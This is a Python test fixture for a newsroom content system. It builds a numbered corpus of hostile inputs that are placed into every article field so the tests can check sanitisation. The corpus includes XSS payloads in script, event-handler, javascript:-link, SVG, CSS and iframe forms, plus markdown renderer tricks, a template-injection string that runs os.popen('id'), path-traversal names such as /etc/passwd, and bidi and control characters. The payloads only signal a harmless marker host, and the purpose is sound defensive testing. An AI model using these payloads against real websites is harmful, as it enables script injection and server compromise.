"""A corpus of hostile and broken content, shared by the hostile-input tests.

Every payload that could run code does the same four things when it runs: it sets
``window.__pwned``, sets the page title to ``PWNED``, marks the document element with
``data-pwned-N`` and asks for ``https://pwned.invalid/js/N`` (``.invalid`` never resolves;
the tests block it anyway).
A test can therefore read back, from the DOM alone, whether anything ran.

``articles()`` puts each payload into every field of an article; ``TEXT_RULES`` says what
the model boundary does to text (controls removed, nothing else changes).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from newsdesk.core.models import Article, Correction, Media, RelatedLink, Status
from newsdesk.core.text import clean_body, clean_line

MARK = "PWN"  # replaced by the action in every template below


def action(n: int | str = 0) -> str:
    """What a payload does when it runs (no spaces, balanced parentheses)."""
    return (
        f"window.__pwned={n!r};document.title='PWNED';"
        f"document.documentElement.setAttribute('data-pwned-{n}',1);"
        f"fetch('https://pwned.invalid/js/{n}')"
    )


SCRIPT = [
    "<script>PWN</script>",
    "<SCRIPT>PWN</SCRIPT>",
    "<script src=https://pwned.invalid/x.js></script>",
    "<scr<script>ipt>PWN</scr</script>ipt>",
    "<script/xss>PWN</script>",
    '"><script>PWN</script>',
    "'></title></textarea></style></script><script>PWN</script>",
    "<<script>PWN//<</script>",
    '<script type="module">PWN</script>',
    "<script>/*</script><script>*/PWN</script>",
    '<noscript><p title="</noscript><img src=x onerror=PWN>"></noscript>',
    "<template><script>PWN</script></template>",
    "<textarea><script>PWN</script></textarea>",
]

EVENT_HANDLERS = [
    '<img src=x onerror="PWN">',
    "<img src=x OnErRoR=PWN>",
    "<img/src=x/onerror=PWN>",
    "<img src=x onerror=PWN//",
    '<body onload="PWN">',
    '<div onmouseover="PWN">hover me</div>',
    '<a href="#" onclick="PWN">click me</a>',
    "<details open ontoggle=PWN><summary>s</summary></details>",
    "<input autofocus onfocus=PWN>",
    "<select autofocus onfocus=PWN></select>",
    "<video><source onerror=PWN></video>",
    "<audio src=x onerror=PWN></audio>",
    '<p title="x" onpointerenter=PWN>pointer</p>',
    "<marquee onstart=PWN>m</marquee>",
    '<div id="x" tabindex="1" onfocusin="PWN">focus</div>',
    '<img src="x" alt="a" onload="PWN" onerror="PWN">',
    "<body onpageshow=PWN>",
    '<span style="x" onanimationstart="PWN">a</span>',
]

DANGEROUS_LINKS = [
    "[click](javascript:PWN)",
    "[click](JaVaScRiPt:PWN)",
    "[click]( javascript:PWN)",
    "[click](<javascript:PWN>)",
    "[click](javascript&#58;PWN)",
    "[click](&#106;avascript:PWN)",
    "[click](java%0ascript:PWN)",
    "![img](javascript:PWN)",
    "[ref link][evil]\n\n[evil]: javascript:PWN",
    "<javascript:PWN>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox(1))",
    '<a href="javascript:PWN">a</a>',
    '<a href="  javascript:PWN">a</a>',
    '<a href="JAVASCRIPT:PWN">a</a>',
    '<a href="java&#x09;script:PWN">a</a>',
    '<a href="java\tscript:PWN">a</a>',
    '<a href="java&#10;script:PWN">a</a>',
    '<a href="jav&#x0A;ascript:PWN">a</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;PWN">a</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;PWN">a</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058PWN">a</a>',
    '<a href="javascript&colon;PWN">a</a>',
    '<a href="\x01javascript:PWN">a</a>',
    '<a href="javascript://%0aPWN">a</a>',
    '<a href="data:text/html,<script>PWN</script>">a</a>',
    '<a href="vbscript:msgbox(1)">a</a>',
    '<a href="VBScript:msgbox(1)">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="blob:https://pwned.invalid/x">a</a>',
    '<img src="javascript:PWN">',
    '<img src="data:image/svg+xml,<svg onload=PWN>">',
    '<img src=x srcset="javascript:PWN 1x">',
    '<a href="//pwned.invalid/">protocol-relative</a>',
    '<form action="javascript:PWN"><button>go</button></form>',
    '<button formaction="javascript:PWN">go</button>',
    '<a ping="https://pwned.invalid/ping" href="https://example.org/">ping</a>',
]

SVG_MATHML = [
    "<svg onload=PWN>",
    "<svg><script>PWN</script></svg>",
    '<svg><a xlink:href="javascript:PWN"><text x="0" y="10">x</text></a></svg>',
    "<svg><animate onbegin=PWN attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=PWN /></svg>",
    '<svg><a><animate attributeName=href values="javascript:PWN"/><text>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>PWN</script>"></iframe></foreignObject></svg>',
    "<svg><style>@import url(https://pwned.invalid/x.css)</style></svg>",
    "<svg/onload=PWN//",
    '<math href="javascript:PWN">click</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:PWN">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN></style></mglyph></table>"
    "</mtext></math>",
    '<math><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=PWN>'
    "</annotation-xml></math>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=PWN>#x"/></svg>',
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
]

CSS = [
    '<p style="background:url(javascript:PWN)">styled</p>',
    '<div style="width: expression(PWN)">expr</div>',
    '<div style="behavior: url(https://pwned.invalid/x.htc)">b</div>',
    '<p style="-moz-binding:url(https://pwned.invalid/x.xml#x)">m</p>',
    "<style>@import 'https://pwned.invalid/x.css';</style>",
    "<style>body{display:none}</style>",
    '<style>*{background:url("javascript:PWN")}</style>',
    '<link rel="stylesheet" href="https://pwned.invalid/x.css">',
    '<link rel="import" href="https://pwned.invalid/x.html">',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">cover</p>',
    '<span id="nd-headline">A fake headline</span>',
    '<div class="masthead" id="nd-body">a fake body</div>',
    '<p style="color:red;background-image:url(&#106;avascript:PWN)">entity</p>',
    "<div style=\"background:url('java\\0000script:PWN')\">escape</div>",
]

EMBEDDING = [
    '<iframe src="javascript:PWN"></iframe>',
    '<iframe srcdoc="<script>PWN</script>"></iframe>',
    '<iframe src="https://pwned.invalid/"></iframe>',
    '<object data="javascript:PWN"></object>',
    '<embed src="javascript:PWN">',
    '<base href="javascript:PWN//">',
    '<base href="https://pwned.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:PWN">',
    '<meta http-equiv="refresh" content="0; url=https://pwned.invalid/">',
    '<meta charset="utf-7">',
    '<form action="https://pwned.invalid/"><input name="q"><button>send</button></form>',
    "<frameset onload=PWN><frame src=javascript:PWN></frameset>",
    "<applet code=x.class></applet>",
    '<portal src="https://pwned.invalid/"></portal>',
    '<isindex action="javascript:PWN" type="image">',
    '<object type="text/html" data="data:text/html,<script>PWN</script>"></object>',
    "<canvas id=c></canvas>",
]

BROKEN_HTML = [
    "<div><p>an unclosed paragraph and div",
    "</div></div></article></main></body></html>",
    "<p <p <p text",
    '<a href="https://example.org/ an unclosed attribute',
    '<img src="x',
    "<!-- an unclosed comment",
    "<![CDATA[<script>PWN</script>]]>",
    "<table><tr><td>cell",
    "<b><i>mis</b>nested</i>",
    '<div title="a>b">gt in attribute</div>',
    "&#xD800; &#0; &#x110000; &unknown; &amp &lt",
    "<p>a</p></body></html><script>PWN</script>",
    "<?php echo 1; ?>",
    "<!DOCTYPE html><html><head><title>x</title></head>",
    "<</p>>",
    "<a href=x>unclosed <b>bold",
    "<ul><li>one<li>two</ul></ol>",
    "```\n<script>PWN</script>\nunclosed fence",
    "<div>\n\n*markdown inside html*\n\n</div>",
    "<p>one</p\n>two",
]

# Markdown that different renderers read differently (the Markdown export must be safe
# in every one of them: Hugo's goldmark, kramdown, Python-Markdown, markdown-it).
MARKDOWN_TRICKS = [
    "```\n<script>PWN</script>\nan unclosed fence",
    "```\n<script>PWN</script>\n````",
    "```\ncode\n````\n<script>PWN</script>\n```",
    "```\n<script>PWN</script>\n   ```",
    "  ```\n<script>PWN</script>\n  ```",
    "``` two words\n<script>PWN</script>\n```",
    "\\`<script>PWN</script>`",
    "``<script>PWN</script>`",
    "`a\n<script>PWN</script>`",
    "[a](<javascript:PWN>)",
    "[a]: <javascript:PWN>\n\n[a]",
    '<http://x.example/"onmouseover="PWN>',
    '[x](http://a.example/"onmouseover="PWN)',
    "*[HTML]: <script>PWN</script>\n\nHTML",
    "Term\n: <img src=x onerror=PWN>",
    "[^1]\n\n[^1]: <script>PWN</script>",
    '{: onclick="PWN" }\nparagraph with attributes\n{: onclick="PWN" }',
    '# heading {: onclick="PWN" }',
    '<div markdown="1"><script>PWN</script></div>',
    # Deep nesting: Python-Markdown recurses per level (2 KB went past Python's stack).
    "Nested to the end:\n\n" + "  - " * 500 + "<script>PWN</script>",
    "".join("  " * i + "- level\n" for i in range(400)),
    "1. " * 800,
    "> " * 1000 + "quoted",
    "[" * 300 + "brackets" + "]" * 300,
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{{7*'7'}}",
    "{{ config.items() }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ page.csp }} {{ site.name }} {{ self }}",
    "{% raw %}{% endraw %}",
    "{# comment #}",
    "{%- if true -%}yes{%- endif -%}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
]

CONTROL = [
    "NUL\x00in the middle",
    "\x01\x02\x03\x04\x05\x06\x07\x08 C0 controls",
    "vertical\x0btab and form\x0cfeed",
    "escape \x1b[31mred\x1b[0m sequence",
    "delete\x7f and C1 \x80\x85\x9b\x9f",
    "next line\x85(U+0085)",
    "line\u2028separator and paragraph\u2029separator",
    "carriage\rreturn and\r\nCRLF",
    "tab\there",
    "zero\u200bwidth\u200c non\u200djoiner",
    "\ufeffbyte order mark",
    "soft\u00adhyphen",
    "noncharacters \ufffe \uffff and private use \ue000",
]

BIDI = [
    "\u202eevil.exe\u202c",
    "photo_\u202egnp.exe",
    "isolates \u2066left\u2069 \u2067right\u2069 \u2068first\u2069",
    "marks \u200eLRM \u200fRLM \u061cALM",
    "نص عربي مع English في الوسط",
    "עברית עם מספרים 123 ו-English",
    "\u202bembedded RTL\u202c and \u202aLTR\u202c",
    "مرحبا <script>PWN</script> بالعالم",
]

COMBINING = [
    "e\u0301 (decomposed) and \u00e9 (composed)",
    "Z\u0337\u0321\u0322\u031b\u031b\u0317\u0317\u0324\u0326a\u0335\u0358\u0361l\u0338g\u0336o",
    "a" + "\u0300" * 60,
    "\u1100\u1161\u11a8 Hangul jamo",
    "देवनागरी क्षत्रिय",
    "ﬁ ligature ｆｕｌｌｗｉｄｔｈ ＜script＞",
    "i\u0307stanbul İSTANBUL ß ẞ",
]

EMOJI = [
    "👩🏽‍💻 woman technologist, medium skin",
    "👨‍👩‍👧‍👦 family ZWJ",
    "🏳️‍🌈 rainbow flag and 🏳️‍⚧️",
    "🇬🇧 🇺🇦 🇯🇵 flags",
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f Scotland tag sequence",
    "1️⃣ keycap #️⃣",
    "🌊" * 50,
    "𝕏 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟘𝟙 astral",
    "❤️ vs ❤︎ variation selectors",
]

PATHS = [
    "../../escape",
    "..\\..\\escape",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "C:",
    "c:evil",
    "\\\\server\\share\\x",
    "a/../../b",
    ".",
    "..",
    ".hidden",
    "CON",
    "con",
    "con.txt",
    "nul",
    "com1",
    "LPT9",
    "aux.md",
    "x\x00y",
    "s" * 300,
    "ends-with-dot.",
    "ends-with-space ",
    "%2e%2e%2fescape",
    "..%2fescape",
    "~/.bashrc",
    "file:///etc/passwd",
    "..\u2215escape",
    "..\uff0fescape",
    "a\nb",
    "",
]

CATEGORIES: dict[str, list[str]] = {
    "script": SCRIPT,
    "event-handler": EVENT_HANDLERS,
    "dangerous-link": DANGEROUS_LINKS,
    "svg-mathml": SVG_MATHML,
    "css": CSS,
    "embedding": EMBEDDING,
    "broken-html": BROKEN_HTML,
    "markdown": MARKDOWN_TRICKS,
    "template-injection": TEMPLATE_INJECTION,
    "control": CONTROL,
    "bidi": BIDI,
    "combining": COMBINING,
    "emoji": EMOJI,
}
HTML_CATEGORIES = ("script", "event-handler", "dangerous-link", "svg-mathml", "css", "embedding",
                   "broken-html", "markdown")  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    number: int
    category: str
    text: str


def payloads(act: object = None) -> list[Payload]:
    """Every text payload, numbered; ``act(n)`` gives each its action (default: ``action``)."""
    make = act if callable(act) else action
    out = []
    for category, texts in CATEGORIES.items():
        for template in texts:
            number = len(out) + 1
            out.append(Payload(number, category, template.replace(MARK, make(number))))
    return out


def counts() -> dict[str, int]:
    """How many inputs of each kind the corpus holds (for the issue's closing note)."""
    found = {name: len(texts) for name, texts in CATEGORIES.items()}
    found["path-traversal"] = len(PATHS)
    return found


# -- the rule at the model boundary ---------------------------------------------------------

# The rule itself is core's (tests/core/test_text_and_slugs.py pins its outputs); these
# tests check that every path into the store applies it, and nothing more.
line_rule = clean_line
body_rule = clean_body

TEXT_RULES = {"line": line_rule, "body": body_rule}


# -- articles -------------------------------------------------------------------------------

BASE = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
SECTION_MAX = 120
TAG_MAX = 200


def uri(number: int) -> str:
    return f"urn:newsdesk:article:00000000-0000-4000-8000-{number:012d}"


def article(payload: Payload, *, target: str | None = None) -> Article:
    """A published article carrying ``payload`` in every field it has."""
    text = payload.text
    n = payload.number
    links = [RelatedLink(title=text, url=f"https://example.org/{n}/{text}")]
    if target:
        links.append(RelatedLink(title=text, target_uri=target, pinned=True))
    return Article(
        headline=f"Hostile {n}: {text}",
        uri=uri(n),
        status=Status.PUBLISHED,
        kicker=text,
        standfirst=text,
        byline=text,
        authors=(text, "Ann Lee"),
        dateline=text,
        section=text[:SECTION_MAX] if line_rule(text[:SECTION_MAX]) else "World",
        tags=(text[:TAG_MAX], "hostile"),
        body=f"Before {n}.\n\n{text}\n\nAfter {n}.\n",
        created_at=BASE + timedelta(minutes=n),
        updated_at=BASE + timedelta(minutes=n, seconds=30),
        first_published_at=BASE + timedelta(minutes=n),
        display_date=BASE + timedelta(minutes=n),
        seo_title=text,
        seo_description=text,
        canonical_url=text,
        editor_note=text,
        image=Media(
            src=f"media/{n}.jpg", caption=text, credit=text, alt=text, mime_type="image/jpeg"
        ),
        audio=Media(
            src=text, caption=text, credit=text, alt=text, mime_type=text, duration_seconds=61
        ),
        related=tuple(links),
        corrections=(Correction(BASE + timedelta(days=1), text),),
    )


def articles(act: object = None) -> list[Article]:
    """One article per payload; each also links to the next one."""
    items = payloads(act)
    return [
        article(p, target=uri(items[i + 1].number) if i + 1 < len(items) else None)
        for i, p in enumerate(items)
    ]


def big_body(megabytes: int = 10) -> str:
    """A body of ``megabytes`` MB (UTF-8): prose, hostile HTML, and a pasted data dump.

    The dump is ASCII: a web engine lays out tens of thousands of lines of emoji or bidi
    overrides slowly (about 10 s for 40,000 lines offscreen), which is Chromium's affair.
    """
    head = (
        "A very long article begins. 🌊 عربي \u202eevil\u202c e\u0301 👩🏽‍💻\n\n"
        "<script>PWN</script><img src=x onerror=PWN>\n\n".replace(MARK, action("big"))
    )
    row = "2026-03-01,Severn,4.2,<b>high</b>,<script>x</script>,ok\n"
    rows = (megabytes * 1024 * 1024 - len(head.encode()) - 40) // len(row.encode())
    body = head + "```\n" + row * rows + "```\n\nThe very long article ends.\n"
    return body


def field_values(item: Article) -> Iterator[tuple[str, object]]:
    """Every text a journalist can type into an article, by field name."""
    for name in ("headline", "kicker", "standfirst", "byline", "dateline", "section", "body",
                 "seo_title", "seo_description", "canonical_url", "editor_note", "language",
                 "slug"):  # fmt: skip
        yield name, getattr(item, name)
    yield "tags", item.tags
    yield "authors", item.authors
    for which in ("image", "audio"):
        media = getattr(item, which)
        yield which, None if media is None else media.to_dict()
    yield "related", [link.to_dict() for link in item.related]
    yield "corrections", [c.to_dict() for c in item.corrections]


LINE_FIELDS = ("headline", "kicker", "standfirst", "byline", "dateline", "section", "seo_title",
               "seo_description", "canonical_url", "language")  # fmt: skip
BODY_FIELDS = ("body", "editor_note")


def expected_fields(item: Article) -> dict[str, object]:
    """What the store must give back for ``item``: the rule applied, nothing else changed."""
    out: dict[str, object] = {name: line_rule(getattr(item, name)) for name in LINE_FIELDS}
    out.update({name: body_rule(getattr(item, name)) for name in BODY_FIELDS})
    out["tags"] = tuple(dict.fromkeys(t for t in map(line_rule, item.tags) if t))
    out["authors"] = tuple(a for a in map(line_rule, item.authors) if a)
    for which in ("image", "audio"):
        media = getattr(item, which)
        if media is None or not line_rule(media.src):
            out[which] = None
            continue
        data = media.to_dict()
        out[which] = {k: line_rule(v) if isinstance(v, str) else v for k, v in data.items()}
    out["related"] = [
        {**link.to_dict(), "title": line_rule(link.title),
         "url": None if link.url is None else line_rule(link.url)}
        for link in item.related
    ]  # fmt: skip
    out["corrections"] = [
        {"when": c.when.isoformat(), "text": body_rule(c.text)} for c in item.corrections
    ]
    return out


def stored_fields(item: Article) -> dict[str, object]:
    """The same fields of an article read back, in the shape of :func:`expected_fields`."""
    values = dict(field_values(item))
    values.pop("slug")
    values["tags"] = tuple(values["tags"])  # type: ignore[arg-type]
    values["authors"] = tuple(values["authors"])  # type: ignore[arg-type]
    return values
